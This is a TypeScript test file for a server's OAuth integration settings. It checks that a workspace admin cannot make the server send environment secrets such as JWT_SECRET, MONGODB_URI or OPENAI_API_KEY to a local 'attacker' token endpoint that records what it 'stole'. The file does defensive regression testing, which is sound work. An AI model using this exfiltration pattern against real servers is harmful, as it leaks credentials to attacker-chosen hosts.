/**
 * Threat class: a tenant configures something that names a thing of the server (docs/security.md).
 * The actor is a workspace admin: they may configure OAuth integrations, and they try to make the
 * server send its own environment (JWT_SECRET) to a token endpoint they chose. The only environment
 * variables an integration may name are the ones the operator lists in OAUTH_CLIENT_SECRET_ENVS;
 * a stored integration that names another (saved before the rule) sends nothing at use either.
 * The allowlisted case runs against a real OpenID provider (oidc-provider, as
 * test/api/connections.test.ts): it authenticates the client with the environment's secret.
 */
import { randomUUID } from 'node:crypto';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import Provider from 'oidc-provider';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildWorkspace, useTestApp } from '../support/app.js';

const ALLOWED_ENV = 'CORTEX_TEST_OAUTH_CLIENT_SECRET';
const CLIENT_SECRET = `client-secret-${randomUUID()}`;
process.env[ALLOWED_ENV] = CLIENT_SECRET;
const app = useTestApp({ OUTBOUND_ALLOW_HOSTS: ['127.0.0.1'], OAUTH_CLIENT_SECRET_ENVS: [ALLOWED_ENV] });

const servers: Server[] = [];
/** What the attacker's token endpoint received: each request's Authorization header and body. */
const stolen: { authorization: string; body: string }[] = [];
let attacker = '';
let issuer = '';

const listen = async (handler: (req: IncomingMessage, res: ServerResponse) => void) => {
  const server = createServer(handler);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  servers.push(server);
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
};

let provider: Provider | undefined;
beforeAll(async () => {
  attacker = await listen((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      stolen.push({ authorization: String(req.headers.authorization ?? ''), body });
      res.writeHead(400, { 'content-type': 'application/json' }).end('{"error":"invalid_grant"}');
    });
  });
  issuer = await listen((req, res) => (provider ? provider.callback()(req, res) : res.writeHead(503).end()));
  provider = new Provider(issuer, {
    clients: [
      {
        client_id: 'cortex-env',
        client_secret: CLIENT_SECRET,
        redirect_uris: ['http://127.0.0.1/callback'],
        grant_types: ['authorization_code'],
        response_types: ['code'],
        token_endpoint_auth_method: 'client_secret_basic',
      },
    ],
    pkce: { required: () => true },
  });
});
afterAll(async () => {
  delete process.env[ALLOWED_ENV];
  for (const s of servers) await new Promise((r) => s.close(r));
});

type Ws = Awaited<ReturnType<typeof buildWorkspace>>;

/** An admin's reflex on the integration, a connect, and the callback with a made-up code: the token request is sent. */
async function exchange(ws: Ws, admin: string, integrationId: string) {
  const reflex = await app.post('/v1/reflexes', admin, {
    name: `r-${integrationId}`,
    type: 'effector',
    scope: 'brain',
    brain_id: ws.brainId,
    metadata: { server_url: `${attacker}/mcp`, integration_id: integrationId },
  });
  expect(reflex.status, reflex.text).toBe(201);
  const reflexId = String(reflex.body.id);
  const connect = await app.post(`/v1/reflexes/${reflexId}/connect`, admin, {});
  expect(connect.status, connect.text).toBe(200);
  const state = new URL(String(connect.body.redirectUrl)).searchParams.get('state') ?? '';
  return app.get(`/v1/reflexes/${reflexId}/callback?state=${encodeURIComponent(state)}&code=made-up`);
}

const jwtSecret = () => app.deps.config.JWT_SECRET;
const leaked = () =>
  stolen.some(
    (s) =>
      Buffer.from(s.authorization.replace(/^Basic /, ''), 'base64')
        .toString()
        .includes(jwtSecret()) || s.body.includes(jwtSecret()),
  );

describe('a workspace admin cannot make the server send its environment out', () => {
  it('client_secret_env naming a server variable (JWT_SECRET, MONGODB_URI, …) is a 400 naming the field; nothing is stored', async () => {
    const ws = await buildWorkspace(app);
    const admin = await ws.jwt(['workspace_admin']);
    for (const name of ['JWT_SECRET', 'BOOTSTRAP_API_KEY', 'MONGODB_URI', 'OPENAI_API_KEY', 'PATH', 'SECRETS_KEY']) {
      const r = await app.put(`/v1/integrations/steal`, admin, {
        authorization_endpoint: `${attacker}/auth`,
        token_endpoint: `${attacker}/token`,
        client_id: 'x',
        client_secret_env: name,
      });
      expect(r.status, name).toBe(400);
      expect(r.body.message).toContain('client_secret_env');
    }
    expect((await app.get('/v1/integrations', admin)).body).toEqual({ integrations: [] });
  });

  it('an integration stored before the rule with client_secret_env=JWT_SECRET sends no secret on the callback', async () => {
    const ws = await buildWorkspace(app);
    const admin = await ws.jwt(['workspace_admin']);
    const put = await app.put('/v1/integrations/legacy', admin, {
      authorization_endpoint: `${attacker}/auth`,
      token_endpoint: `${attacker}/token`,
      client_id: 'x',
    });
    expect(put.status, put.text).toBe(200);
    // As an older server stored it: the name of any environment variable.
    await app.deps.db
      .collection('integrations')
      .updateOne({ workspaceId: ws.workspaceId, integrationId: 'legacy' }, { $set: { clientSecretEnv: 'JWT_SECRET' } });
    // It is not shown as having a client secret: nothing would be sent.
    const listed = await app.get<{ integrations: { integration_id: string; has_client_secret: boolean }[] }>(
      '/v1/integrations',
      admin,
    );
    expect(listed.body.integrations.find((i) => i.integration_id === 'legacy')?.has_client_secret).toBe(false);
    const before = stolen.length;
    const cb = await exchange(ws, admin, 'legacy');
    expect(cb.status).toBe(400);
    expect(stolen.length).toBe(before + 1); // the token request was made, without the variable
    expect(stolen.at(-1)!.authorization).toBe('');
    expect(leaked()).toBe(false);
    // Saved again without naming a secret, the stale name is dropped.
    await app.put('/v1/integrations/legacy', admin, {
      authorization_endpoint: `${attacker}/auth`,
      token_endpoint: `${attacker}/token`,
      client_id: 'x',
    });
    const doc = await app.deps.db
      .collection('integrations')
      .findOne({ workspaceId: ws.workspaceId, integrationId: 'legacy' });
    expect(doc?.clientSecretEnv).toBeNull();
  });

  it('a variable the operator allowlisted (OAUTH_CLIENT_SECRET_ENVS) authenticates the client at a real provider', async () => {
    const ws = await buildWorkspace(app);
    const admin = await ws.jwt(['workspace_admin']);
    const put = await app.put('/v1/integrations/envsecret', admin, {
      authorization_endpoint: `${issuer}/auth`,
      token_endpoint: `${issuer}/token`,
      client_id: 'cortex-env',
      client_secret_env: ALLOWED_ENV,
    });
    expect(put.status, put.text).toBe(200);
    expect(put.body.has_client_secret).toBe(true);
    // The provider knows the client by the environment's secret: the made-up code is what it refuses.
    const cb = await exchange(ws, admin, 'envsecret');
    expect(cb.status).toBe(400);
    expect(cb.body.message).toContain('invalid_grant');
    expect(cb.body.message).not.toContain('invalid_client');
    expect(JSON.stringify((await app.get('/v1/integrations', admin)).body)).not.toContain(CLIENT_SECRET);
  });
});
